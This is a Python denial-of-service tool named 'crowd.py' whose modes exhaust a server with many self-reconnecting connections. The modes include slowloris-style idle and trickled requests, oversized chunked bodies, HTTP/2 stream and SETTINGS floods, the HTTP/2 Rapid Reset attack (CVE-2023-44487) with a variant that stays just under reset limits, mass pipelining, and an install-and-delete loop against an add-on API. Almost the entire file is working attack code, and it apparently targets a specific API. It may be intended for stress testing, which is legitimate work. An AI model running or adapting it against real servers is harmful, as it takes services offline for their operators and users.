"""A crowd that a server could do without. It keeps coming until it is ended.

Usage: crowd.py KIND URL COUNT [AUTHORIZATION [PATH]]

idle     opens so many connections and says nothing on them
bodies   begins an authorized report on each and sends a byte of its body now and then
chunked  sends reports of a megabyte on each in chunks, without saying how long they are
gone     sends a report of 64 kB on each and leaves before the answer
read     asks for PATH on 40 streams of each connection of HTTP/2 and reads the answers
unread   asks likewise, lets everything be sent, and reads nothing
closed   asks likewise, and opens no window for the answers
resets   opens streams and resets them at once (CVE-2023-44487)
anew     opens a hundred streams in one go, resets them, leaves, and comes again on a new connection
pipeline asks for PATH ten thousand times on each connection and reads nothing
install  installs PATH, which is a listing, removes it, and begins again
settings sends SETTINGS without end
"""

import asyncio
import json
import socket
import ssl
import struct
import sys
from urllib.parse import urlsplit

SECONDS_BETWEEN_BYTES = 5
STREAMS = 40
WINDOW_MAX = 2**31 - 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
END_OF_STREAM, END_OF_HEADERS, ACKNOWLEDGED = 1, 4, 1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def head(address, path, authorization):
    """A GET in HPACK: literals alone, neither indexed nor compressed."""
    fields = [(":method", "GET"), (":scheme", "https"), (":authority", address.netloc), (":path", path)]
    if authorization:
        fields.append(("authorization", authorization))
    return b"".join(b"\x00" + b"".join(length(part) + part.encode() for part in field) for field in fields)


def length(text):
    count = len(text.encode())
    if count < 127:
        return bytes([count])
    rest, count = b"\x7f", count - 127
    while count >= 128:
        rest, count = rest + bytes([count % 128 + 128]), count // 128
    return rest + bytes([count])


async def connect(address, **options):
    if address.scheme == "https":
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        options["ssl"] = context
    return await asyncio.open_connection(address.hostname, address.port, **options)


async def visit(address, speak):
    """Comes again whenever it is shown out."""
    while True:
        try:
            reader, writer = await connect(address)
        except OSError:
            await asyncio.sleep(1)
            continue
        try:
            await speak(reader, writer)
        except (OSError, asyncio.IncompleteReadError, KeyError):
            pass
        writer.close()


async def drain(reader, _=None):
    while await reader.read(65536):
        pass


def trickle(address, authorization, _):
    async def speak(reader, writer):
        writer.write(report_head(address, authorization, "Content-Length: 4096"))
        reading = asyncio.create_task(drain(reader))
        while not reading.done():
            await writer.drain()
            await asyncio.sleep(SECONDS_BETWEEN_BYTES)
            writer.write(b" ")

    return speak


def report_head(address, authorization, framing):
    head = f"POST {address.path} HTTP/1.1\r\nHost: {address.netloc}\r\nAuthorization: {authorization}\r\n"
    return (head + f"Content-Type: application/json\r\n{framing}\r\n\r\n").encode()


def chunked(address, authorization, _):
    part = b" " * 16_000
    body = b"%x\r\n%s\r\n" % (len(part), part) * 64 + b"2\r\n{}\r\n0\r\n\r\n"

    async def speak(reader, writer):
        while True:
            writer.write(report_head(address, authorization, "Transfer-Encoding: chunked") + body)
            await writer.drain()
            answer = await reader.readuntil(b"\r\n\r\n")
            size = int(answer.lower().split(b"content-length: ")[1].split(b"\r\n")[0])
            await reader.readexactly(size)

    return speak


def leave(address, authorization, _):
    async def speak(_, writer):
        writer.write(report_head(address, authorization, "Content-Length: 65000") + b" " * 65_000)
        await writer.drain()
        await asyncio.sleep(0.2)

    return speak


def streams(mode):
    def make(address, authorization, path):
        ask = head(address, path, authorization)
        window = 0 if mode == "closed" else WINDOW_MAX

        async def speak(reader, writer):
            writer.write(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
            writer.write(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WINDOW_MAX - 65535)))
            stream = -1
            for _ in range(STREAMS):
                stream += 2
                writer.write(frame(HEADERS, END_OF_STREAM | END_OF_HEADERS, stream, ask))
            if mode == "unread":
                writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                writer.transport.pause_reading()
                return await asyncio.sleep(25)
            while True:
                start = await reader.readexactly(9)
                size, kind, flags = int.from_bytes(start[:3]), start[3], start[4]
                payload = await reader.readexactly(size)
                if kind in (SETTINGS, PING) and not flags & ACKNOWLEDGED:
                    writer.write(frame(kind, ACKNOWLEDGED, 0, payload if kind == PING else b""))
                if kind in (DATA, HEADERS) and flags & END_OF_STREAM or kind == RESET:
                    stream += 2
                    writer.write(frame(HEADERS, END_OF_STREAM | END_OF_HEADERS, stream, ask))

        return speak

    return make


def flood(make_frames):
    def make(address, authorization, path):
        ask = head(address, path or "/v1/Alerts", authorization)

        async def speak(reader, writer):
            writer.write(PREFACE + frame(SETTINGS, 0, 0))
            reading = asyncio.create_task(drain(reader))
            stream = 1
            while not reading.done():
                for _ in range(50):
                    writer.write(make_frames(stream, ask))
                    stream += 2
                await writer.drain()
                await asyncio.sleep(0)

        return speak

    return make


def reset(stream, ask):
    opened = frame(HEADERS, END_OF_STREAM | END_OF_HEADERS, stream, ask)
    return opened + frame(RESET, 0, stream, struct.pack(">I", 8))


def anew(address, authorization, _):
    """One less than a connection may reset, and a few that it leaves open."""
    ask = head(address, "/v1/Alerts", authorization)
    asked = b"".join(reset(2 * number + 1, ask) for number in range(99))
    asked += b"".join(frame(HEADERS, END_OF_STREAM | END_OF_HEADERS, 2 * number + 1, ask) for number in range(99, 120))

    async def speak(_, writer):
        writer.write(PREFACE + frame(SETTINGS, 0, 0) + asked)
        await writer.drain()

    return speak


def pipeline(address, authorization, path):
    ask = f"GET {path} HTTP/1.1\r\nHost: {address.netloc}\r\nAuthorization: {authorization}\r\n\r\n".encode()

    async def speak(_, writer):
        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        writer.transport.pause_reading()
        writer.write(ask * 10_000)
        await asyncio.sleep(25)

    return speak


def install(address, authorization, listing):
    form = f"AvailableAddOnSid={listing}&AcceptTermsOfService=true".encode()

    async def ask(reader, writer, line, body=b""):
        head = f"{line} HTTP/1.1\r\nHost: {address.netloc}\r\nAuthorization: {authorization}\r\n"
        head += f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n\r\n"
        writer.write(head.encode() + body)
        answer = (await reader.readuntil(b"\r\n\r\n")).lower()
        _, _, rest = answer.partition(b"content-length: ")
        return await reader.readexactly(int(rest.split(b"\r\n")[0])) if rest else b""

    async def speak(reader, writer):
        while True:
            made = json.loads(await ask(reader, writer, "POST /v1/InstalledAddOns", form))
            if made["sid"].startswith("XE"):
                await ask(reader, writer, f"DELETE /v1/InstalledAddOns/{made['sid']}")

    return speak


async def say_nothing(reader, _):
    await drain(reader)


KINDS = {
    "idle": lambda *_: say_nothing,
    "bodies": trickle,
    "chunked": chunked,
    "gone": leave,
    "read": streams("read"),
    "unread": streams("unread"),
    "closed": streams("closed"),
    "resets": flood(reset),
    "anew": anew,
    "pipeline": pipeline,
    "install": install,
    "settings": flood(lambda *_: frame(SETTINGS, 0, 0)),
}


async def crowd(kind, url, count, authorization="", path=""):
    address = urlsplit(url)
    speak = KINDS[kind](address, authorization, path)
    await asyncio.gather(*(visit(address, speak) for _ in range(int(count))))


asyncio.run(crowd(*sys.argv[1:]))
